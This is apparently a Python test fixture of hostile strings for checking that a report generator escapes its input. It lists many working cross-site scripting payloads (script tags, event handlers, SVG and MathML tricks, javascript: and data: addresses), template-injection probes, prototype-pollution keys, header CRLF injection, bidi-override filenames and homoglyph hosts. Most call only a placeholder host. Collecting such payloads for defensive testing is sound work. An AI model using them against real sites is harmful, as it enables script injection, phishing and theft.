"""Texts that try to become part of a page: tags, attributes, styles, drawings, addresses, data and names of its own.

Each that could do something would set ``pwned``, open a dialog or ask `OTHER_HOST`; none may, and each is to be read
as it was typed.
"""

from __future__ import annotations

from reportgen.base.characters import MOST_MARKS

OTHER_HOST = "https://canary.invalid"
_RUN = "window.pwned=1"

TAGS = {
    "script": f"<script>{_RUN}</script>",
    "script-elsewhere": f"<script src={OTHER_HOST}/a.js></script>",
    "script-case": f"<ScRiPt\n>{_RUN}</sCrIpT\t>",
    "script-nested": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "image": f"<img src=x onerror={_RUN}>",
    "image-slash": f"<img/src=`{OTHER_HOST}/i`/onerror={_RUN}//>",
    "srcset": f'<img srcset="{OTHER_HOST}/i.png 1x"><source srcset="{OTHER_HOST}/i 2x">',
    "body-onload": f"<body onload={_RUN}>",
    "details": f"<details open ontoggle={_RUN}>x</details>",
    "focus": f"<input autofocus onfocus={_RUN}><select autofocus onfocus={_RUN}>",
    "frame": f'<iframe srcdoc="<script>parent.pwned=1</script>" src="{OTHER_HOST}/f"></iframe>',
    "object": f'<object data="{OTHER_HOST}/o"></object><embed src="{OTHER_HOST}/e">',
    "media": f'<video src="{OTHER_HOST}/v" onerror={_RUN} autoplay></video><audio src="{OTHER_HOST}/a">',
    "template": f"<template><script>{_RUN}</script></template><slot onslotchange={_RUN}>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    "plaintext": "<plaintext><xmp><listing><textarea><title>",
    "comment": f"<!--><script>{_RUN}</script>--> <!-- never closed",
    "bogus-comment": f"<?php echo 1?><!x><script>{_RUN}</script></ x>",
    "closers": "</p></div></article></main></body></html>",
    "closing-title": f"</title></head><script>{_RUN}</script>",
    "doctype": f'<!DOCTYPE html [<!ENTITY x SYSTEM "{OTHER_HOST}/x">]>&x;&lt;b&gt;&#60;i&#62;&amp;amp;',
    "cdata": f"<![CDATA[<script>{_RUN}</script>]]>",
    "unfinished": f"<img src=x onerror={_RUN} <a href=",
}

ATTRIBUTES = {
    "double-quote": f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" x="',
    "single-quote": f"' onmouseover='{_RUN}' autofocus onfocus='{_RUN}' x='",
    "backquote": f"` onmouseover=`{_RUN}` x=`",
    "no-quote": f" onmouseover={_RUN} x",
    "tag-end": f'"><script>{_RUN}</script>',
    "tag-end-single": f"'/><svg/onload={_RUN}>",
    "entity-quote": f"&quot; onfocus=&quot;{_RUN}&quot; &#x22; &#34 &apos;",
    "style-attribute": f'" style="position:fixed;inset:0;background:url({OTHER_HOST}/s)',
    "form": f'"><form action="{OTHER_HOST}"><button formaction="{OTHER_HOST}">go</button>',
}

STYLES = {
    "style": f"<style>*{{display:none!important}} @import '{OTHER_HOST}/c.css';</style>",
    "style-closed": f"</style><script>{_RUN}</script><style>",
    "link": f'<link rel=stylesheet href="{OTHER_HOST}/c.css"><link rel=preload as=script href="{OTHER_HOST}">',
    "expression": f"x:expression({_RUN}); -moz-binding:url({OTHER_HOST}/x#y); behavior:url(x)",
    "css-escape": f"}} body {{ background: \\75rl({OTHER_HOST}/b) }} /* \\3c /style\\3e",
}

DRAWINGS = {
    "svg": f"<svg onload={_RUN}><script>{_RUN}</script></svg>",
    "svg-animate": f"<svg><a><animate attributeName=href values=javascript:{_RUN} /><text>x</text></a>",
    "svg-use": f'<svg><use href="data:image/svg+xml,<svg id=x onload={_RUN}>#x"/></svg>',
    "svg-set": f"<svg><set attributeName=onmouseover to={_RUN}><image href={OTHER_HOST}/i></svg>",
    "foreign-object": f"<svg><foreignObject><iframe src=javascript:{_RUN}></iframe></foreignObject></svg>",
    "mathml": f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style></math>",
    "mathml-link": f'<math href="javascript:{_RUN}"><maction actiontype="statusline#{OTHER_HOST}">x</math>',
}

MARKDOWN = {
    "markdown-link": f"[click](javascript:{_RUN}) [d](data:text/html,x) [v](vbscript:x)",
    "markdown-title": f'[a](https://example.org "\\" onfocus={_RUN} x=\\"") [b]: javascript:x',
    "markdown-picture": f"![x]({OTHER_HOST}/p.png) ![y](data:image/svg+xml,<svg onload={_RUN}>)",
    "markdown-autolink": f"<javascript:{_RUN}> <data:text/html,x>",
    "markdown-anchor": "see @page-report and @claim-__proto__ and @body",
}

DATA = {
    "json-end": f'"}}]}}</script><script>{_RUN}</script>',
    "json-comment": f'<!--<script> \\u003cscript\\u003e \\\\" {_RUN}',
    "json-separators": "one\u2028two\u2029three",
    "json-keys": '{"__proto__": {"pwned": 1}, "constructor": {"prototype": {}}, "@context": "'
    + OTHER_HOST
    + '"}',
    "script-string": f"\\'; {_RUN}; // ${{{_RUN}}} `+{_RUN}+`",
    "jinja": "{{ 7*7 }} {% include 'x' %} {# gone #} {{ cycler.__init__.__globals__ }}",
    "other-templates": "<%= 7*7 %> ${7*7} #{7*7} [[${7*7}]] {{{x}}} ng-app v-html={{x}}",
    "refresh": f'<meta http-equiv=refresh content="0;url={OTHER_HOST}"><base href="{OTHER_HOST}/">',
    "policy": "<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\">",
    "header": f"x\r\nSet-Cookie: a=b\r\nLocation: {OTHER_HOST}\r\n\r\n<script>{_RUN}</script>",
    "entities-of-xml": "]]> <![CDATA[ <!ENTITY % x '&#x25;'> %x; <?xml-stylesheet href='x'?>",
    "proto": "__proto__",
    "constructor": "constructor",
    "clobber": '<a id="document"><form id="search" name="body"><input name="reports" id="words">',
}

UNICODE = {
    "override": "invoice\u202egnp.exe\u202c \u2066x\u2069 \u2067y",
    "isolates-left-open": "\u2067\u2067\u2067 left open \u202b\u202d",
    "zero-widths": "zero" + "\u200b\u200d\u2060\ufeff" * 500 + "width",
    "marks": "Z" + "\u0351\u036b\u0343" * (MOST_MARKS // 3) + "algo",
    "fullwidth": "\uff1cscript\uff1ewindow.pwned=1\uff1c/script\uff1e \ufe64img onerror\ufe65",
    "long-s": "<\u017fcript>window.pwned=1</\u017fcript> <\u0131mg onerror=x>",
    "homoglyphs": "https://\u0430\u0440\u0440\u04cf\u0435.com/ https://p\u0430yp\u0430l.com\u2044x.example.org",
    "controls": "\x01\x02 bell\x07 escape\x1b]8;;https://canary.invalid\x07link\x1b]8;;\x07 \x7f \x9b31m",
    "tags": "flag\U000e0041\U000e007f and \ufff9x\ufffb",
    "word": "w" * 3_000,
    "word-of-marks": "e\u0301" * 1_500,
    "wide-word": "\u6f22" * 1_500 + "\ufdfd" * 40,
    "no-break": "no\u00a0break" * 150,
    "blanks": "a" + "\u2003" * 2_000 + "b",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 300,
}

TEXTS = {**TAGS, **ATTRIBUTES, **STYLES, **DRAWINGS, **MARKDOWN, **DATA, **UNICODE}
"""Every text by its name."""

LONGEST_WORD = "W" * 100_000

ADDRESSES = {
    "javascript": f"javascript:{_RUN}",
    "case": f"JaVaScRiPt:{_RUN}",
    "tab": f"java\tscript:{_RUN}",
    "newline": f"java\nscript:{_RUN}",
    "leading-control": f"\x01javascript:{_RUN}",
    "leading-blank": f" javascript:{_RUN}",
    "entity": f"javascript&colon;{_RUN} &#106;avascript:x",
    "percent": f"javascript%3A{_RUN}",
    "fullwidth-colon": f"javascript\uff1a{_RUN}",
    "comment": f"javascript://example.org/%0A{_RUN}",
    "data": f"data:text/html,<script>{_RUN}</script>",
    "data-base64": "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    "vbscript": "vbscript:msgbox(1)",
    "file": "file:///etc/passwd",
    "blob": "blob:https://example.org/1",
    "view-source": "view-source:https://example.org/",
    "protocol-relative": "//canary.invalid/x",
    "backslashes": "\\\\canary.invalid\\x https:\\\\canary.invalid",
    "quotes": f'https://example.org/"onmouseover="{_RUN}\'>',
    "credentials": "https://example.org@canary.invalid/",
    "homoglyph-host": "https://ex\u0430mple.org/\u2215etc",
    "bidi": "https://example.org/\u202egpj.exe",
    "template": "https://example.org/{{7*7}}?a=b&c=<d>",
    "long": "https://example.org/" + "a" * 2_000,
}
"""Addresses by name, for fields that take one: refused, or led to only where they are http or https."""
